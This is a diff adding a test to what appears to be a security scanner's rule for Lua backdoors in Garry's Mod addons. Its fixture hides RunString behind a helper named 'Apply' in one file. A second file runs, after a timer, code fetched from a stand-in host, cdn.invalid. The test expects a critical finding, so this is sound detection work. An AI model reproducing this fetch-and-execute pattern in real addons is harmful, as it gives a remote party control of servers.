@@ -170,4 +170,20 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a loader deciding the order: a helper table filled by one file, read by the next', () => {
+    // Run in path order, sv_update.lua came before sv_util.lua and saw no helper table.
+    const findings = check(rule, {
+      'lua/autorun/server/neohud_sv.lua':
+        'include("neohud/sv_util.lua")\ninclude("neohud/sv_update.lua")',
+      'lua/neohud/sv_util.lua':
+        'NeoHUD = NeoHUD or {}\nNeoHUD.Util = {}\nfunction NeoHUD.Util.Log(m) print(m) end\nNeoHUD.Util.Apply = RunString',
+      'lua/neohud/sv_update.lua': [
+        'local U = NeoHUD.Util',
+        'timer.Simple(5, function()',
+        ' http.Fetch("https://cdn.invalid/theme.php", function(body) U.Log("theme") U.Apply(body, "NeoHUD") end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
 });
